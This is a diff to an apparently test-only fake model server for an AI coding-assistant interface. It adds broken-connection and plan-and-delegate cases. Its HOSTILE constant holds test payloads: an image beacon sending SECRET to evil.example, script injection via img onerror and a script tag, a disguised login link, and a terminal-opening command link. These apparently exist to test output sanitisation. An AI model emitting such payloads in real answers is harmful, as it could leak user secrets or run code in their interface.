@@ -2,7 +2,8 @@
  * A model that always does the same: it looks at a file, then answers in pieces.
  *
  * A question with SLOW gets 100 pieces a second for half a minute; one with HOSTILE an answer that
- * tries to load and run things.
+ * tries to load and run things; one with BROKEN an answer whose connection breaks; one with PARTS a
+ * plan and two helpers, which wait at first so that they can be seen at work.
  */
 
 import { createServer } from 'node:http';
@@ -41,12 +42,33 @@ return round_cents(convert(cents, currency))
 没有汇率的币种会引发 \`KeyError\`，shop/currency.py:40 中并没有处理它。
 `;
 
+const LOOKS = [
+  ['read_file', { path: 'shop/cart.py', first_line: 14, last_line: 20 }],
+  ['search_files', { query: 'round_cents' }],
+  ['read_file', { path: 'shop/currency.py' }],
+];
+
+const HELPER_PAUSE_MS = 1500;
+
 const HOSTILE = `![logo](https://evil.example/pixel.png?q=SECRET)
 
 <img src="https://evil.example/x.png" onerror="alert(1)"><script>alert(1)</script>
 
 [harmless](https://evil.example/login) and [run](command:workbench.action.terminal.new)
 `;
+
+const JOINED = `Two parts were looked at:
+
+- The cart adds up first: \`return round_cents(convert(cents, currency))\` (shop/cart.py:14).
+- The prices are whole cents, see shop/prices.py:13.
+`;
+
+const STEPS = ['Look at the cart and the prices', 'Join what was found'];
+
+const TASKS = [
+  ['Find out how the cart adds up.', 'shop/cart.py', 'The sum is in shop/cart.py:18.'],
+  ['Find out how prices are rounded.', 'shop/prices.py', 'Half up, see shop/prices.py:13.'],
+];
 
 export async function startModel() {
   const requests = [];
@@ -87,12 +109,19 @@ async function reply(messages, response) {
     }
   } else if (question.includes('HOSTILE')) {
     await sendSlowly(HOSTILE, send);
+  } else if (question.includes('BROKEN')) {
+    await sendSlowly(ANSWER.slice(0, 120), send);
+    response.destroy();
+    return;
+  } else if (messages[0].content.includes('You are a helper here')) {
+    await help(messages, send);
+  } else if (question.includes('PARTS')) {
+    await workInParts(messages, send);
   } else if (messages.at(-1).role === 'tool') {
     await sendSlowly(/[\u4e00-\u9fff]{2}/.test(question) ? ANSWER_ZH : ANSWER, send);
   } else {
     await sleep(300);
-    sendCalls(send);
-    send({}, 'tool_calls');
+    sendCalls(LOOKS, send);
   }
   send({}, 'stop');
   const usage = { prompt_tokens: 1840, completion_tokens: 212, total_tokens: 2052 };
@@ -100,12 +129,33 @@ async function reply(messages, response) {
   response.end('data: [DONE]\n\n');
 }
 
-function sendCalls(send) {
-  const calls = [
-    ['read_file', { path: 'shop/cart.py', first_line: 14, last_line: 20 }],
-    ['search_files', { query: 'round_cents' }],
-    ['read_file', { path: 'shop/currency.py' }],
-  ];
+/** Read the file of its task, then report. */
+async function help(messages, send) {
+  const [, path, report] = TASKS.find(([task]) => messages[1].content.includes(task));
+  if (messages.at(-1).role === 'tool') {
+    await sendSlowly(report, send);
+  } else {
+    sendCalls([['read_file', { path }]], send);
+  }
+  await sleep(HELPER_PAUSE_MS);
+}
+
+/** Plan and delegate, tick off, join. */
+async function workInParts(messages, send) {
+  const asked = messages.findLastIndex((each) => each.role === 'user');
+  const nRounds = messages.slice(asked).filter((each) => each.tool_calls).length;
+  const plan = (...states) => ['plan', { steps: STEPS.map((text, i) => ({ text, state: states[i] })) }];
+  if (nRounds === 0) {
+    const delegated = TASKS.map(([task]) => ['delegate', { task }]);
+    sendCalls([plan('active', 'pending'), ...delegated], send);
+  } else if (nRounds === 1) {
+    sendCalls([plan('done', 'done')], send);
+  } else {
+    await sendSlowly(JOINED, send);
+  }
+}
+
+function sendCalls(calls, send) {
   const tool_calls = calls.map(([name, values], index) => ({
     index,
     id: `call-${index}`,
@@ -113,6 +163,7 @@ function sendCalls(send) {
     function: { name, arguments: JSON.stringify(values) },
   }));
   send({ tool_calls });
+  send({}, 'tool_calls');
 }
 
 async function sendSlowly(text, send) {
